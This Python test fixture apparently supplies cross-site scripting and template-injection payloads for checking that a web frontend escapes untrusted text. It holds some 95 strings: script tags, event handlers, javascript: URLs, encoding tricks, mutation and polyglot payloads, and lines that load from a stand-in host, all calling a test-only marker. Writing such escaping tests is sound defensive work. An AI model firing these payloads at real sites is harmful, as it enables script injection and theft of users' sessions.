r"""Texts that run where they are not escaped; each calls `pwn()`, a name that only the test has."""

_MUTATION = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwn()"
    "&gt;'>"
)
PAYLOADS = [
    # Elements
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script/x>pwn()</script>",
    "<script\n>pwn()</script\n>",
    "<<script>pwn()//<</script>",
    "<scr<script>ipt>pwn()</script>",
    "<script>pwn()",
    "<img src=x onerror=pwn()>",
    "<img src=x onerror=pwn()//",
    '<img/src="x"/onerror=pwn()>',
    "<img src=x onerror\n=\npwn()>",
    "<IMG SRC=x ONERROR=pwn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><a xlink:href=javascript:pwn()><text y=9>x",
    "<svg><animate onbegin=pwn() attributeName=x>",
    "<svg><set onbegin=pwn() attributeName=x>",
    "<svg><style><img src=x onerror=pwn()>",
    "<math><mtext><img src=x onerror=pwn()>",
    "<body onload=pwn()>",
    "<iframe onload=pwn()>",
    '<iframe srcdoc="<script>parent.pwn()</script>">',
    "<iframe src=javascript:parent.pwn()>",
    "<object data=javascript:pwn()>",
    "<embed src=javascript:pwn()>",
    "<details open ontoggle=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()>",
    "<video src=x onerror=pwn()>",
    "<audio src=x onerror=pwn()>",
    "<video><source onerror=pwn()>",
    "<marquee onstart=pwn()>",
    "<style onload=pwn()></style>",
    "<style>@import'//e.example/x'</style>",
    "<link rel=stylesheet href=//e.example>",
    "<base href=//e.example/>",
    "<meta http-equiv=refresh content=0;//e.example>",
    "<form action=//e.example><button>",
    "<template><script>pwn()</script>",
    "<x onfocusin=pwn() tabindex=1 autofocus>",
    "<a href=javascript:pwn()>x</a>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=pwn()>",
    "<div popover id=p onbeforetoggle=pwn()>",
    # Out of attributes
    '"><script>pwn()</script>',
    "'><script>pwn()</script>",
    '" autofocus onfocus=pwn() x="',
    "' autofocus onfocus=pwn() x='",
    '"/onmouseover=pwn()//',
    "` onfocus=pwn() autofocus x=`",
    '"><img src=x onerror=pwn()>',
    "x onfocus=pwn() autofocus",
    # Out of elements whose text is raw
    "</title><script>pwn()</script>",
    "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "</script><script>pwn()</script>",
    "</noscript><img src=x onerror=pwn()>",
    "--><script>pwn()</script>",
    "]]><script>pwn()</script>",
    "</option></select><svg onload=pwn()>",
    # Addresses
    "javascript:pwn()",
    "JaVaScRiPt:pwn()",
    "java\tscript:pwn()",
    "javascript://%0apwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "//e.example/x.js",
    # Scripts and templates
    "';pwn()//",
    '";pwn()//',
    "`${pwn()}`",
    "\\';pwn()//",
    "{{pwn()}}",
    "{{''.__class__.__mro__}}",
    "{% print pwn() %}",
    "${pwn()}",
    "#{pwn()}",
    "<%= pwn() %>",
    "%(pwn)s {pwn} %s",
    '#eval("pwn()")',
    # Other writings of the same signs
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "&#60;script&#62;pwn()&#60;/script&#62;",
    "%3Cscript%3Epwn()%3C/script%3E",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "\\x3cscript\\x3epwn()\\x3c/script\\x3e",
    "＜script＞pwn()＜/script＞",
    "<ｓｃｒｉｐｔ>pwn()</ｓｃｒｉｐｔ>",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "ʺ><script>pwn()</script>",
    "<img src=x onerror=\u2028pwn()>",
    "<\u200dscript>pwn()</script>",
    # What a page that reads itself again makes live
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
    _MUTATION,
    # Everything at once
    "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk=pwn() )//</teXtarEa/</scRipt/--!><sVg/oNloAd=pwn()>",
    "'\"--></title></textarea></script></style><svg onload=pwn()>",
]
# What Chromium runs in none of the places of tests/front/places.py, and whom it is written for.
HARMLESS_ALONE = {
    _MUTATION: "browsers before 2025, which write attributes with bare signs",
    "<marquee onstart=pwn()>": "browsers that begin a marquee out of sight",
    "<object data=javascript:pwn()>": "browsers before 2016",
    "<embed src=javascript:pwn()>": "browsers before 2016",
    "+ADw-script+AD4-pwn()+ADw-/script+AD4-": "readers of UTF-7",
    "{{''.__class__.__mro__}}": "templates that are filled twice",
    "{% print pwn() %}": "templates that are filled twice",
    "#{pwn()}": "templates that are filled twice",
    "<%= pwn() %>": "templates that are filled twice",
    "%(pwn)s {pwn} %s": "texts that are formatted twice",
    '#eval("pwn()")': "scripts that read the address",
}
MARK = "pwn"
ONE_LINE = [one for one in PAYLOADS if one.isprintable()]
_OF_A_BLOCK = 8


def short(number: int, most: int = 100) -> str:
    """Return the payload of this number among those that fit on one line."""
    fitting = [one for one in ONE_LINE if len(one) <= most]
    return fitting[number % len(fitting)]


def block(number: int) -> str:
    """Return eight payloads, each on a line of its own; twelve numbers hold all of them."""
    blocks = range(0, len(PAYLOADS), _OF_A_BLOCK)
    first = blocks[number % len(blocks)]
    return "\n".join(PAYLOADS[first : first + _OF_A_BLOCK])


def everything() -> str:
    """Return a text of all payloads."""
    return "\n".join(PAYLOADS)
